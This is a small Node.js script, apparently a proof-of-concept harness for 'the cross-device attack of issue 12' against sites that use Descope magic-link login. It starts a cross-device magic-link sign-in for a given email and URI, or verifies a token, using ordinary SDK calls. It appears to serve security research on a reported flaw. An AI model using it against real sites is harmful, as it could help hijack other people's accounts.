#!/usr/bin/env node
// The cross-device attack of issue 12 with the official Descope Node SDK against a magiclink_auth site.
//
//   node cross_device.js <baseUrl> <projectId> start <email> <URI>   signIn.email with loginOptions.crossDevice
//   node cross_device.js <baseUrl> <projectId> verify <token>        magicLink.verify, as a site's own page does
//
// Prints {ok, code, data, error} as JSON.

const sdkModule = require('@descope/node-sdk');
const DescopeClient = sdkModule.default || sdkModule;

const [baseUrl, projectId, mode, first, second] = process.argv.slice(2);

async function main() {
  const sdk = DescopeClient({ projectId, baseUrl });
  const response = mode === 'start'
    ? await sdk.magicLink.signIn.email(first, second, { crossDevice: true })
    : await sdk.magicLink.verify(first);
  const { ok, code, data, error } = response;
  process.stdout.write(`${JSON.stringify({ ok, code, data, error })}\n`);
}

main().catch((err) => {
  process.stdout.write(`${JSON.stringify({ ok: false, thrown: String(err) })}\n`);
  process.exitCode = 1;
});
